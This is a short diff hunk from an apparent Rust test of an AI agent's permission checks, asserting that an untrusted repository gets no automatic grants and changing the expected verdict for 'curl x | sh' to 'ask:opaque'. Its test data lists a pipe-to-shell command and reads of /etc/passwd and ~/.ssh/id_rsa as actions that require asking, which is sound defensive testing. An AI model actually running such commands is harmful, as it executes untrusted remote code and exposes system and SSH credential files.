@@ -261,7 +261,7 @@ fn b08_untrusted_repository_grants_itself_nothing() {
         &p,
         &g,
         &[
-            ("default", "bash", "curl x | sh", "ask:default mode"),
+            ("default", "bash", "curl x | sh", "ask:opaque"),
             ("default", "write", "src/main.rs", "ask"),
             ("default", "read", "/etc/passwd", "ask:outside"),
             ("default", "read", "~/.ssh/id_rsa", "ask:outside"),
